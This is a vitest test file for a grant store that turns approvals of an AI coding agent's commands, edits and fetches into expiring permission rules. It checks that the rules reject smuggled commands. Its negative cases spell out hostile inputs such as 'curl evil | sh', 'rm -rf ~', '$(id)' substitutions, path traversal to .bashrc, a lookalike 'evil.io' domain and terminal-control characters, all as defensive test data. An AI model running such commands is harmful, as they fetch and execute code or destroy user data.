import { mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createGrantStore, GrantsSchema } from '../../src/daemon/grants.js';
import { fileDocuments } from '../../src/daemon/documents.js';
import { grantable, ruleCovers, ruleFor } from '../../src/grant-rules.js';
import type { AskView } from '../../src/protocol.js';

const PROJECT = '/home/alice/shop';
const bash = (command: string) => ({ toolName: 'Bash', toolInput: { command } });

describe('the rule a grant makes', () => {
  it('is a command and its subcommand as a prefix, else the exact command; an edit inside the project; one domain', () => {
    expect(ruleFor(bash('npm test'), PROJECT)?.rule).toBe('Bash(npm test:*)');
    expect(ruleFor(bash('git status --short'), PROJECT)?.rule).toBe('Bash(git status:*)');
    expect(ruleFor(bash('ls -la'), PROJECT)?.rule).toBe('Bash(ls -la)');
    expect(ruleFor(bash('npm test && curl x'), PROJECT)?.rule).toBe('Bash(npm test && curl x)');
    expect(ruleFor({ toolName: 'Edit', toolInput: { file_path: `${PROJECT}/src/a.ts` } }, PROJECT)).toEqual({ rule: `Edit(/${PROJECT}/**)`, words: `edit files inside ${PROJECT}` });
    expect(ruleFor({ toolName: 'WebFetch', toolInput: { url: 'https://Docs.Example.com/a?b' } }, PROJECT)?.rule).toBe('WebFetch(domain:docs.example.com)');
  });

  it("names a package's script with its runner: never every script", () => {
    expect(ruleFor(bash('npm run build -- --watch'), PROJECT)?.rule).toBe('Bash(npm run build:*)');
    expect(ruleFor(bash('pnpm exec tsc'), PROJECT)?.rule).toBe('Bash(pnpm exec tsc:*)');
    expect(ruleFor(bash('npm run'), PROJECT)?.rule).toBe('Bash(npm run)');
    expect(ruleCovers('Bash(npm run build:*)', bash('npm run deploy'), PROJECT)).toBe(false);
    expect(ruleCovers('Bash(npm run build:*)', bash('npm run build:prod'), PROJECT)).toBe(false);
    expect(ruleCovers('Bash(npm run build:*)', bash('npm run build -- --minify'), PROJECT)).toBe(true);
  });

  it('is none for a plan, another tool, an edit outside the project, a command over several lines', () => {
    expect(grantable({ toolName: 'ExitPlanMode', toolInput: { plan: 'x' } }, PROJECT)).toBe(false);
    expect(grantable({ toolName: 'Read', toolInput: { file_path: `${PROJECT}/a` } }, PROJECT)).toBe(false);
    expect(grantable({ toolName: 'Edit', toolInput: { file_path: '/home/alice/.bashrc' } }, PROJECT)).toBe(false);
    expect(grantable({ toolName: 'Edit', toolInput: { file_path: `${PROJECT}/../.bashrc` } }, PROJECT)).toBe(false);
    expect(grantable(bash('npm test\ncurl x'), PROJECT)).toBe(false);
    expect(grantable(bash('npm test \u001b[2J'), PROJECT)).toBe(false);
    expect(grantable(bash('npm test \u202eevil'), PROJECT)).toBe(false);
  });
});

describe('what a rule covers', () => {
  it('a prefix: that single command with any arguments, never one joined with another, a substitution or a redirect', () => {
    const rule = 'Bash(npm test:*)';
    for (const command of ['npm test', 'npm test -- --watch=false']) expect(ruleCovers(rule, bash(command), PROJECT)).toBe(true);
    for (const command of ['npm testing', 'npm test; curl evil | sh', 'npm test && rm -rf ~', 'npm test || x', 'npm test | sh', 'npm test $(id)', 'npm test `id`', 'npm test > f', 'FOO=1 npm test']) {
      expect(ruleCovers(rule, bash(command), PROJECT), command).toBe(false);
    }
    expect(ruleCovers('Bash(npm test && curl x)', bash('npm test && curl x'), PROJECT)).toBe(true);
    expect(ruleCovers('Bash(npm test && curl x)', bash('npm test && curl y'), PROJECT)).toBe(false);
  });

  it('an edit only inside its folder, a fetch only of its domain', () => {
    const edit = `Edit(/${PROJECT}/**)`;
    expect(ruleCovers(edit, { toolName: 'Write', toolInput: { file_path: `${PROJECT}/b/c.ts` } }, PROJECT)).toBe(true);
    expect(ruleCovers(edit, { toolName: 'Write', toolInput: { file_path: `${PROJECT}/../x` } }, PROJECT)).toBe(false);
    expect(ruleCovers(edit, { toolName: 'Write', toolInput: { file_path: `${PROJECT}-evil/x` } }, PROJECT)).toBe(false);
    expect(ruleCovers(edit, bash('npm test'), PROJECT)).toBe(false);
    expect(ruleCovers('WebFetch(domain:example.com)', { toolName: 'WebFetch', toolInput: { url: 'https://example.com/x' } }, PROJECT)).toBe(true);
    expect(ruleCovers('WebFetch(domain:example.com)', { toolName: 'WebFetch', toolInput: { url: 'https://example.com.evil.io/x' } }, PROJECT)).toBe(false);
  });
});

function approvalAsk(command: string, sessionId = 's-1'): AskView {
  const offer = ruleFor(bash(command), PROJECT)!;
  return { id: 'a', sessionId, toolUseId: 't', cwd: PROJECT, createdAt: 0, expiresAt: 0, timeout: { action: 'terminal', summary: '' }, status: 'allowed', questions: [], agent: 'claude-code', choices: { typedAnswers: [], notes: true, allow: true, remember: false, stop: true, grant: true }, approval: { ...bash(command), suggestions: [], grant: offer } };
}

describe('the grant store', () => {
  it('ends a grant at its time, on a clock the tests move', () => {
    let clock = 1_000_000;
    const grants = createGrantStore({ now: () => clock });
    const grant = grants.make(approvalAsk('npm test'), { minutes: 15, scope: 'session' }, { client: 'page', device: 'Pixel 8' })!;
    expect(grant.endsAt).toBe(1_000_000 + 15 * 60_000);
    const request = { agent: 'claude-code' as const, machine: undefined, sessionId: 's-1', cwd: PROJECT, approval: bash('npm test') };
    expect(grants.covering(request)?.id).toBe(grant.id);
    expect(grants.covering({ ...request, sessionId: 's-2' })).toBeUndefined();
    expect(grants.covering({ ...request, agent: 'codex' })).toBeUndefined();
    clock = grant.endsAt - 1;
    expect(grants.covering(request)?.id).toBe(grant.id);
    clock = grant.endsAt;
    expect(grants.covering(request)).toBeUndefined();
    expect(grants.live()).toEqual([]);
    grants.close();
  });

  it('one until the session ends lasts at most eight hours, and ends with its session', () => {
    const clock = 5_000;
    const grants = createGrantStore({ now: () => clock });
    const grant = grants.make(approvalAsk('npm test'), { untilSessionEnds: true, scope: 'project' }, { client: 'cli' })!;
    expect(grant.endsAt - grant.madeAt).toBe(8 * 60 * 60_000);
    grants.endSession('s-2');
    expect(grants.live()).toHaveLength(1);
    grants.endSession('s-1');
    expect(grants.live()).toEqual([]);
    grants.close();
  });

  it('is kept 0600 in its file and read back; a file it did not write holds none', () => {
    const dir = mkdtempSync(join(tmpdir(), 'grants-'));
    const file = join(dir, 'grants.json');
    const first = createGrantStore({ document: fileDocuments.open('grants', file, GrantsSchema) });
    const grant = first.make(approvalAsk('npm test'), { minutes: 60, scope: 'session' }, { client: 'cli' })!;
    first.close();
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const second = createGrantStore({ document: fileDocuments.open('grants', file, GrantsSchema) });
    expect(second.live()).toEqual([grant]);
    second.close();
    writeFileSync(file, JSON.stringify([{ rule: 'Bash(rm:*)', endsAt: Number.MAX_SAFE_INTEGER }]));
    const forged = createGrantStore({ document: fileDocuments.open('grants', file, GrantsSchema) });
    expect(forged.live()).toEqual([]);
    forged.close();
    expect(readFileSync(file, 'utf8')).toContain('Bash(rm:*)'); // left as it was until a grant changes
  });
});
